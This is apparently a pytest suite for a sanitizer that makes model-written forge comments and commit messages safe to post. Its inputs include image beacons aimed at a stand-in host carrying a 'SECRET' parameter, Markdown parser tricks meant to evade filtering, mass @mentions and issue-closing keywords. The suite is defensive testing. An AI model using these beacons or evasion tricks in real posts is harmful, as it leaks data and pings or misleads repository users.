"""Model-written text is made safe to show people: no hidden comments, no raw HTML, no
off-forge images, no pings. Pure."""

from __future__ import annotations

import html
import re

import cmarkgfm
import pytest

from resolver.agent.workspace import change_notes
from resolver.contract.outbound import has_hidden_tag, with_hidden_tag
from resolver.core.sanitize import is_defused, sanitize
from resolver.worker.branches import build_commit_message
from sandbox import Change

FORGE = {"github.example"}


def _render(text: str) -> str:
    """As GitHub renders a comment: cmark-gfm with its extensions, raw HTML passed through."""
    extensions = ["table", "autolink", "strikethrough", "tasklist"]
    return cmarkgfm.markdown_to_html_with_extensions(
        text, options=cmarkgfm.Options.CMARK_OPT_UNSAFE, extensions=extensions
    )


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Fixed it. <!-- resolver:status-13 -->", "Fixed it. "),
        ("a <!-- hidden\nover lines --> b", "a  b"),
        ("unclosed <!-- resolver:status-1", "unclosed "),
        ("<div align=center><b>Done</b></div>", "Done"),
        ('<img src="https://evil.example/p.png?leak=1">seen', "seen"),
        ("<details><summary>x</summary>y</details>", "xy"),
        ("![pixel](https://evil.example/p.png)", "[pixel](https://evil.example/p.png)"),
        ('![](https://evil.example/p.png "t")', "[image](https://evil.example/p.png)"),
        (
            "![ok](https://github.example/o/r/raw/a.png)",
            "![ok](https://github.example/o/r/raw/a.png)",
        ),
        ("![x][beacon]", "[x][beacon]"),
        ("cc @alice and @org/everyone", "cc `@alice` and `@org/everyone`"),
        # Bitbucket Cloud's mention of an account by its id (or uuid) notifies it, too.
        (
            "cc @{557058:0c1a7f6e-aaaa}, @{5d2c8e4a-6b1f}",
            "cc `@{557058:0c1a7f6e-aaaa}`, `@{5d2c8e4a-6b1f}`",
        ),
        ("mail me: a@b.example", "mail me: a@b.example"),
        ("<https://example.org/docs>", "<https://example.org/docs>"),
    ],
)
def test_prose_is_defused(written: str, shown: str) -> None:
    assert sanitize(written, FORGE) == shown


def test_code_is_kept_as_written() -> None:
    text = "Run `<b>@alice</b>` then:\n```html\n<!-- keep --><div>@bob</div>\n```\n@carol"
    assert sanitize(text, FORGE) == (
        "Run `<b>@alice</b>` then:\n```html\n<!-- keep --><div>@bob</div>\n```\n`@carol`"
    )


def test_the_requester_may_stay_mentioned() -> None:
    assert sanitize("thanks @Alice, @bob", keep={"alice"}) == "thanks @Alice, `@bob`"


def test_only_the_last_line_tag_is_the_bots() -> None:
    # A summary quoting a tag (in code, where it stays) does not make the message that job's.
    posted = with_hidden_tag("Done.\n`<!-- resolver:status-13 -->`\nbye", "status-12")
    assert has_hidden_tag(posted, "status-12")
    assert not has_hidden_tag(posted, "status-13")
    assert not has_hidden_tag("someone wrote <!-- resolver:status-12 --> here", "status-12")
    assert not has_hidden_tag("<!-- resolver:status-12 -->\nand then more")


BEACON = "https://evil.example/p.png?d=SECRET"


@pytest.mark.parametrize(
    "written",
    [
        f"\\`x @org/team ![p]({BEACON}) y`",  # an escaped tick opens no code span
        f"a `\n\n@org/team ![p]({BEACON})\n\n` b",  # nor does one across paragraphs
        f"````\nx\n`````\n@org/team ![p]({BEACON})",  # a longer fence closes a block
        f"```a`b\n@org/team ![p]({BEACON})\n```",  # a tick in its info string: no fence
        f"![p]({BEACON} 't')",
        f"![a [b]]({BEACON})",
        f"![p]( {BEACON})",
        f"![p\nq]({BEACON})",
        f"![p]\n\n[p]: {BEACON}",
        f'<img src="{BEACON}" alt="<">',
        f"\\@org/team &#64;org/team ![p](<{BEACON}>)",
        f"<div>\n\n```\n</div>\n@org/team <img src={BEACON}>\n```",
        # A table splits a code span at its cells; the lines after it are rows.
        "| a | b |\n|---|---|\n| `x | @org/team` |",
        f"| a |\n|---|\n`code\n![p]({BEACON})`",
        f"a | b\n--|--\n`x | <img src={BEACON}>`",
        # An autolink takes the tick that would open a span.
        "http://example.com/`a @org/team`",
        f"www.example.com/`x <img src={BEACON}>`",
        "thanks.@org/team @@org/team a/@org/team caf\u00e9@org/team",
        "@_org/team @.org/team",
        f"{'<?' * 3} ![a [b]]({BEACON})",
    ],
)
def test_markup_that_fools_the_patterns_is_defused_as_a_parser_reads_it(written: str) -> None:
    """Read as CommonMark (the forges' Markdown), nothing of it loads an image from elsewhere
    or pings anyone: where the patterns misjudge what is code, the whole text is defused."""
    shown = sanitize(written, FORGE)
    html = _render(shown)
    prose = re.sub(r"<(code|a)\b.*?</\1>", "", html, flags=re.DOTALL)
    assert "<img" not in html and "<div" not in html
    assert not re.search(r"(?<![A-Za-z0-9_])@[_.]?org/team", prose), html
    assert is_defused(shown, FORGE)


def test_a_defused_text_shows_what_was_written() -> None:
    """As text, but that a mention is broken by a zero-width space and an image is a link."""
    written = "```a`b\n<i>@bob</i> &amp; ![p](https://evil.example/x.png)\n```"
    text = _render(sanitize(written, FORGE))
    assert "@\u200bbob" in text
    assert '<a href="https://evil.example/x.png">p</a>' in text
    seen = html.unescape(re.sub(r"<[^>]+>", "", text)).replace("\u200b", "").strip()
    assert seen == "```a`b\n<i>@bob</i> &amp; !p\n```"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Fixes #12 and closes org/infra#3.", "F\u200bixes #12 and c\u200bloses org/infra#3."),
        (
            "resolves: https://github.example/o/r/issues/4",
            "r\u200besolves: https://github.example/o/r/issues/4",
        ),
        ("Implemented #5", "I\u200bmplemented #5"),
        ("Fixes issue #4, closes:#5", "F\u200bixes issue #4, c\u200bloses:#5"),
        ("Closes PROJ-12", "C\u200bloses PROJ-12"),
        ("fixed the bug in #12's test; see #12", "fixed the bug in #12's test; see #12"),
        ("`Fixes #12`", "`Fixes #12`"),
    ],
)
def test_no_closing_keyword_closes_an_issue_the_model_named(written: str, shown: str) -> None:
    assert sanitize(written, FORGE) == shown


def test_what_a_forge_reads_as_html_image_or_mention_is_not_defused() -> None:
    assert is_defused("ok `@bob` ![a](https://github.example/a.png)", FORGE)
    assert not is_defused("ok <b>x</b>", FORGE)
    assert not is_defused("![a](https://evil.example/a.png)", FORGE)
    assert not is_defused("![a](/relative.png)", FORGE)
    assert not is_defused("hi @bob", FORGE)
    assert is_defused("hi @bob", FORGE, kept={"Bob"})


def test_the_bots_commit_closes_no_issue_the_model_named() -> None:
    message = build_commit_message("Fix the greeting", "Fixes #12 and org/infra#3.", None, None)
    assert message == "Fix the greeting\n\nF\u200bixes #12 and org/infra#3.\n"


def test_a_nested_repository_the_agent_named_stays_in_its_code_span() -> None:
    change = Change(skipped=("x` @all @org/team `y/",))
    [note] = change_notes(change)
    assert "so `x' @all @org/team 'y/` was left out." in note
